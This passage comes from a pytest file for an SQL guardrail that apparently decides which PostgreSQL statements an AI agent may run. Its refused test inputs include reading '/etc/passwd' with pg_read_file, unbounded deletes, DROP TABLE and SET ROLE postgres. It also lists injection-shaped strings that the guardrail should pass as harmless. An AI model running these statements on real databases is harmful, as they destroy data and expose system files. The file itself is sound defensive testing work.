    "RELEASE SAVEPOINT a", "ROLLBACK TO SAVEPOINT a", "BEGIN; SELECT 1; COMMIT",
    "SELECT 1; SELECT 2",
    # bounded writes
    "UPDATE orders SET status = 'x' WHERE id = $1",
    "UPDATE orders SET status = $2 WHERE id = $1",
    "DELETE FROM orders WHERE id = 42",
    "DELETE FROM orders WHERE id IN (1, 2, 3)",
    "DELETE FROM orders WHERE id = ANY($1)",
    "DELETE FROM orders WHERE id IN (SELECT order_id FROM customers WHERE name = 'x')",
    "DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.cid)",
    "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = orders.cid)",
    "DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM orders x WHERE x.id = o.id AND x.a = 1)",
    "DELETE FROM orders WHERE id = 1 OR id = 2 OR id = 3",
    "DELETE FROM orders WHERE id = 1 OR 1 = 2",
    "DELETE FROM orders WHERE id = 1 AND $1",
    "UPDATE orders SET a = 1 WHERE (id = 1 OR id = 2) AND status = 'open'",
    "UPDATE orders SET a = 1 WHERE NOT (id <> 1 OR $1)",
    "DELETE FROM orders o USING customers c WHERE c.id = o.cid AND c.name = $1",
    "UPDATE orders SET a = c.a FROM customers c WHERE c.id = orders.cid",
    "UPDATE orders o SET a = 1 FROM customers c WHERE o.cid = c.id",
    "UPDATE orders SET a = 1 WHERE CURRENT OF c",
    "WITH d AS (DELETE FROM orders WHERE id = $1 RETURNING *) SELECT * FROM d",
    "MERGE INTO orders o USING customers c ON o.cid = c.id WHEN MATCHED THEN DELETE",
    "MERGE INTO orders o USING customers c ON true WHEN NOT MATCHED THEN INSERT VALUES (1)",
    "INSERT INTO orders VALUES (1)",
    "INSERT INTO orders (id, note) VALUES ($1, $2) RETURNING id",
    "INSERT INTO public.orders SELECT * FROM payments",
    "INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET note = excluded.note",
    "COPY orders FROM STDIN",
    "EXPLAIN ANALYZE UPDATE orders SET a = 1 WHERE id = 7",
    "CREATE INDEX ON orders (cid)",
    "CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_cid ON orders (cid)",
    "CREATE INDEX ON payments (id)",
    "LOCK TABLE orders IN SHARE MODE",
    # text that only looks dangerous
    "SELECT 'DROP TABLE orders'",
    "SELECT 1 -- DROP TABLE orders",
    "SELECT 1 /* DELETE FROM orders */",
    "SELECT * FROM orders WHERE note = 'WHERE 1=1'",
    "SELECT $$; DROP TABLE orders; $$",
    "SELECT $tag$ DELETE FROM payments $tag$",
    "SELECT E'\\'; DROP TABLE orders; --'",
    "INSERT INTO orders (note) VALUES ('TRUNCATE payments; GRANT ALL TO bob')",
    'SELECT 1 AS "DROP TABLE orders"',
    "UPDATE orders SET note = 'DELETE FROM payments WHERE 1=1' WHERE id = 3",
    # driver and session settings
    "SET application_name = 'x'",
    "SET application_name TO 'psql'",
    "SET extra_float_digits = 3",
    "SET DateStyle = ISO",
    "SET datestyle TO 'ISO, MDY'",
    "SET TIME ZONE 'UTC'",
    "SET client_encoding TO 'UTF8'",
    "SET search_path = public, audit",
    "SET LOCAL statement_timeout = '5s'",
    "RESET application_name",
    "SELECT set_config('application_name', 'x', false)",
    "SELECT set_config('search_path', 'public', true)",
    "SHOW transaction isolation level",
    "SHOW ALL",
    "SHOW search_path",
    "select pg_catalog.version()",
    "SELECT version()",
    "SELECT current_setting('search_path')",
    "DISCARD ALL",
    *PSQL,
]


@pytest.mark.parametrize("sql", MUST_PASS)
def test_must_pass_agent_rw(sql: str) -> None:
    refusal = check(sql)
    assert refusal is None, refusal.message


READ_ONLY_PASS = [
    "SELECT * FROM payments", "BEGIN", "BEGIN READ ONLY", "begin transaction read only",
    "START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY", "SET TRANSACTION READ ONLY",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
    "SET default_transaction_read_only = on", "SET transaction_read_only TO true",
    "SET application_name = 'x'", "SELECT lookup()", "EXPLAIN ANALYZE SELECT 1",
    "COPY orders TO STDOUT", "SHOW ALL", "COMMIT", *PSQL[:3],
]


@pytest.mark.parametrize("sql", READ_ONLY_PASS)
def test_must_pass_agent_readonly(sql: str) -> None:
    refusal = check(sql, "agent-readonly")
    assert refusal is None, refusal.message


HUMAN_PASS = [
    "DROP TABLE customers", "CREATE TABLE t (id int)", "ALTER TABLE orders ADD COLUMN x int",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "DO $$ BEGIN END $$",
    "INSERT INTO payments VALUES (1)",
    "DELETE FROM payments WHERE id = 1", "SELECT * FROM audit.events",
    "SELECT pg_terminate_backend(1)", "TRUNCATE orders",
]


@pytest.mark.parametrize("sql", HUMAN_PASS)
def test_must_pass_human(sql: str) -> None:
    assert check(sql, "human") is None


@pytest.mark.parametrize("sql", [
    "SELECT bump()", "CALL do_things()", "SELECT public.bump()",
])
def test_routines_that_may_write_are_judged_under_protected_tables(sql: str) -> None:
    """No code rule in the human profile: a routine that may write could write a protected
    table, so it is refused under the protected-tables rule; stable ones still pass."""
    refusal = check(sql, "human")
    assert refusal is not None and refusal.rule == "protected-tables", sql
    assert check("SELECT lookup()", "human") is None


# -- rule details ----------------------------------------------------------------------------

@pytest.mark.parametrize(("sql", "rule"), [
    ("CREATE TABLE t (id int)", None),
    ("CREATE TABLE t AS SELECT 1", None),
    ("CREATE VIEW v AS SELECT * FROM orders", None),
    ("CREATE OR REPLACE VIEW brand_new AS SELECT 1", None),
    ("VACUUM ANALYZE orders", None),
    ("CREATE INDEX ON orders (id)", "ddl"),
    ("CREATE SEQUENCE s", "ddl"),
    ("CREATE OR REPLACE VIEW v_payments AS SELECT 1", "ddl"),
    ("CREATE OR REPLACE VIEW public.v_orders AS SELECT 1", "ddl"),
    ("DROP TABLE t", "ddl"),
    ("ALTER TABLE t ADD COLUMN x int", "ddl"),
])
def test_allow_create_and_maintenance(sql: str, rule: str | None) -> None:
    assert rule_of(sql, "ddl-create") == rule


def test_create_or_replace_of_unknown_view_without_catalog_is_an_alter() -> None:
    # Without a catalog it cannot be shown that the view is new: fail closed.
    assert rule_of("CREATE OR REPLACE VIEW brand_new AS SELECT 1", "ddl-create",
                   catalog=None) == "ddl"


def test_role_statements_belong_to_the_privileges_rule() -> None:
    # Deliberate: DROP/ALTER ROLE are privilege statements, judged by the privileges rule; a
    # profile with a ddl rule but no privileges rule does not refuse them.
    assert rule_of("DROP ROLE bob", "ddl-create") is None
    assert rule_of("DROP ROLE bob") == "no-privileges"
    assert rule_of("ALTER ROLE bob SUPERUSER") == "no-privileges"


def test_multi_statement_judged_one_by_one_and_refused_whole() -> None:
    refusal = check("SELECT 1; DROP TABLE orders; SELECT 2")
    assert refusal is not None and refusal.rule == "no-ddl"
    assert refusal.reason.endswith("(the whole string is refused)")
    assert refusal.detail is not None and "statement 2 of 3: DROP TABLE orders" in refusal.detail
    refusal = check("DELETE FROM orders WHERE id = 1; DELETE FROM orders")
    assert refusal is not None and refusal.rule == "bounded-writes"
    assert refusal.detail is not None and "statement 2 of 2" in refusal.detail
    assert check("UPDATE orders SET a = 1 WHERE id = 1; INSERT INTO orders VALUES (2)") is None


@pytest.mark.parametrize(("profile", "sql", "rule"), [
    ("agent-readonly", "SELECT 1; SELECT 2", "one-statement"),
    ("agent-readonly", "select 1 ; select 2 ;", "one-statement"),
    ("agent-readonly", "BEGIN; SELECT 1; COMMIT", "one-statement"),
    ("strict-multi", "SELECT 1; SELECT 2", "one"),
    ("strict-multi", "SELECT 1; DROP TABLE orders", "one"),
    ("strict-multi", "DROP TABLE orders", "ddl"),
    ("strict-multi", "SELECT 1;", None),
    ("strict-multi", "SELECT 1; -- trailing comment", None),
    ("strict-multi", "SELECT ';'", None),
])
def test_refuse_all_multi_statement(profile: str, sql: str, rule: str | None) -> None:
    assert rule_of(sql, profile) == rule


@pytest.mark.parametrize(("path", "sql", "rule"), [
    (("public",), "INSERT INTO events VALUES (1)", "protected-tables"),   # unknown: fail closed
    (("audit", "public"), "INSERT INTO events VALUES (1)", "protected-tables"),
    (("audit", "public"), "INSERT INTO orders VALUES (1)", None),
    (("$user", "public"), "INSERT INTO payments VALUES (1)", "protected-tables"),
    (("$user", "public"), "INSERT INTO orders VALUES (1)", None),
    (("pg_temp", "public"), "UPDATE payments SET a = 1 WHERE id = 1", "protected-tables"),
])
def test_protected_tables_through_search_path(path: Sequence[str], sql: str,
                                              rule: str | None) -> None:
    assert rule_of(sql, path=path) == rule


def test_protected_table_reasons() -> None:
    refusal = check("UPDATE v_v_payments SET a = 1 WHERE id = 1")
    assert refusal is not None
    assert "public.payments (through v_v_payments)" in refusal.reason
    refusal = check("INSERT INTO nosuch VALUES (1)")
    assert refusal is not None and "not in the catalog" in refusal.reason


def test_no_catalog_fails_closed() -> None:
    assert rule_of("INSERT INTO orders VALUES (1)", catalog=None) == "protected-tables"
    assert rule_of("SELECT lookup()", catalog=None) == "no-code"
    assert rule_of("SELECT * FROM orders", catalog=None) is None
    # Harmless built-ins need no catalog.
    assert rule_of("SELECT now(), random(), nextval('s')", catalog=None) is None


def test_unknown_routine_is_refused() -> None:
    assert rule_of("SELECT nosuch()") == "wiregate.catalog"
    assert rule_of("SELECT audit.lookup()") == "wiregate.catalog"


@pytest.mark.parametrize(("profile", "sql", "rule"), [
    ("code-allow", "SELECT bump()", None),
    ("code-allow", "SELECT public.bump()", None),
    ("code-allow", "CALL do_things()", "code"),
    ("code-allow", "SELECT lookup()", None),
    ("code-allow", "DO $$ BEGIN END $$", "code"),
])
def test_code_allow_list(profile: str, sql: str, rule: str | None) -> None:
    assert rule_of(sql, profile) == rule


def test_harmless_builtin_names_are_only_harmless_in_pg_catalog() -> None:
    shadowing = Catalog.build(RELATIONS, ROUTINES + [
        _fn("public", "random", "v"), _fn("public", "uuid", "v")])
    # pg_catalog is searched first unless the path places it: random() is the built-in.
    assert rule_of("SELECT random()", catalog=shadowing) is None
    assert rule_of("SELECT random()", path=("public", "pg_catalog"),
                   catalog=shadowing) == "no-code"
    assert rule_of("SELECT public.random()", catalog=shadowing) == "no-code"
    # uuid() is not a PostgreSQL built-in: the user's function is what runs.
    assert rule_of("SELECT uuid()", catalog=shadowing) == "no-code"


def test_function_deny_list_resolves_through_path_without_catalog_entry() -> None:
    profile = Profile("p", (Rule("deny", "functions", deny=(Pattern("audit", "purge"),)),))
    ctx = Context(CATALOG, ("audit", "public"), "alice")
    assert Guardrails(profile).check(analyze("SELECT purge()"), ctx) is not None
    ctx = Context(CATALOG, ("public",), "alice")
    assert Guardrails(profile).check(analyze("SELECT purge()"), ctx) is None


def test_unclassified_statement_is_refused() -> None:
    # A node kind the analysis does not know must not be allowed (fail closed).
    from dataclasses import replace
    facts = [replace(analyze("SELECT 1")[0], kind="FutureStmt", category="unknown")]
    refusal = Guardrails(PROFILES["human"]).check(facts, Context(CATALOG))
    assert refusal is not None and refusal.rule == "wiregate.unclassified"


# -- rewriting never changes the decision ----------------------------------------------------

CORPUS = [
    ("SELECT * FROM orders WHERE id = $1", None),
    ("SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.cid", None),
    ("WITH r AS (SELECT * FROM payments) SELECT count(*) FROM r", None),
    ("SELECT * FROM payments FOR UPDATE", None),
    ("EXPLAIN SELECT * FROM orders", None),
    ("EXPLAIN DELETE FROM orders", None),
    ("SET application_name = 'x'", None),
    ("SET extra_float_digits = 3", None),
    ("SET search_path = public, audit", None),
    ("SHOW transaction isolation level", None),
    ("select pg_catalog.version()", None),
    ("BEGIN ISOLATION LEVEL READ COMMITTED", None),
    ("UPDATE orders SET status = 'x' WHERE id = $1", None),
    ("DELETE FROM orders WHERE id IN (SELECT order_id FROM customers WHERE id = 1)", None),
    ("DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.cid)", None),
    ("INSERT INTO orders (id, note) VALUES (1, 'DROP TABLE orders')", None),
    ("SELECT set_config('application_name', 'x', false)", None),
    ("SELECT lookup(), now(), lower(note) FROM orders", None),
    ("CREATE INDEX ON orders (cid)", None),
    ("SELECT 1; SELECT 2", None),
    ("DROP TABLE customers", "no-ddl"),
    ("TRUNCATE orders", "no-ddl"),
    ("ALTER TABLE orders ADD COLUMN note text", "no-ddl"),
    ("CREATE OR REPLACE VIEW v_payments AS SELECT 1", "no-ddl"),
    ("DELETE FROM orders", "bounded-writes"),
    ("DELETE FROM orders WHERE 1 = 1", "bounded-writes"),
    ("UPDATE orders SET a = 1 WHERE id = id", "bounded-writes"),
    ("DELETE FROM orders WHERE id = 5 OR 't'::boolean", "bounded-writes"),
    ("WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d", "bounded-writes"),
    ("EXPLAIN ANALYZE DELETE FROM orders", "bounded-writes"),
    ("MERGE INTO orders o USING customers c ON true WHEN MATCHED THEN DELETE", "bounded-writes"),
    ("INSERT INTO payments VALUES (1)", "protected-tables"),
    ("UPDATE v_payments SET amount = 0 WHERE id = 1", "protected-tables"),
    ("DELETE FROM audit.events WHERE id = 1", "protected-tables"),
    ("COPY orders TO '/tmp/x'", "no-files"),
    ("SELECT pg_read_file('/etc/passwd')", "no-files"),
    ("GRANT SELECT ON orders TO bob", "no-privileges"),
    ("SET ROLE postgres", "no-privileges"),
    ("SELECT set_config('role', 'postgres', false)", "no-privileges"),
    ("DO $$ BEGIN END $$", "no-code"),
    ("SELECT bump()", "no-code"),
    ("SELECT pg_terminate_backend(1)", "no-admin-functions"),
    ("SELECT 1; DROP TABLE orders", "no-ddl"),
]

GAPS = [" ", "  ", "\n", "\t", "\r\n ", " /* c */ ", " /* a /* nested */ b */ ", " -- x\n",
        "\n/**/\n"]
_KEYWORD_KINDS = {"UNRESERVED_KEYWORD", "COL_NAME_KEYWORD", "TYPE_FUNC_NAME_KEYWORD",
                  "RESERVED_KEYWORD"}


def _recase(word: str, flips: list[bool]) -> str:
    return "".join(c.upper() if f else c.lower() for c, f in zip(word, flips, strict=False))


def _rewrite(sql: str, data: st.DataObject) -> str:
    """The same statement re-spelled token by token: other whitespace and comments between
    tokens, keywords and plain identifiers in another case, lower-case identifiers quoted."""
    raw = sql.encode()
    out: list[str] = []
    previous_end = 0
    for i, tok in enumerate(scan(sql)):
        gap = raw[previous_end:tok.start].decode()
        text = raw[tok.start:tok.end + 1].decode()
        if gap or (i and data.draw(st.booleans(), "extra gap")):
            out.append(data.draw(st.sampled_from(GAPS), "gap"))
        if tok.kind in _KEYWORD_KINDS:
            text = _recase(text, data.draw(st.lists(st.booleans(), min_size=len(text),
                                                    max_size=len(text)), "case"))
        elif tok.name == "IDENT" and text.isidentifier() and text == text.lower():
            choice = data.draw(st.sampled_from(["keep", "quote", "upper", "mixed"]), "ident")
            if choice == "quote":
                text = f'"{text}"'
            elif choice == "upper":
                text = text.upper()
            elif choice == "mixed":
                text = _recase(text, [j % 2 == 0 for j in range(len(text))])
        out.append(text)
        if tok.name == "SQL_COMMENT":
            out.append("\n")
        previous_end = tok.end + 1
    out.append(data.draw(st.sampled_from(["", " ", ";", " -- end"]), "tail"))
    return "".join(out)


@pytest.mark.parametrize(("sql", "expected"), CORPUS)
@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_respelling_never_changes_the_decision(sql: str, expected: str | None,
                                               data: st.DataObject) -> None:
    assert rule_of(sql) == expected
    variant = _rewrite(sql, data)
    assert rule_of(variant) == expected, variant
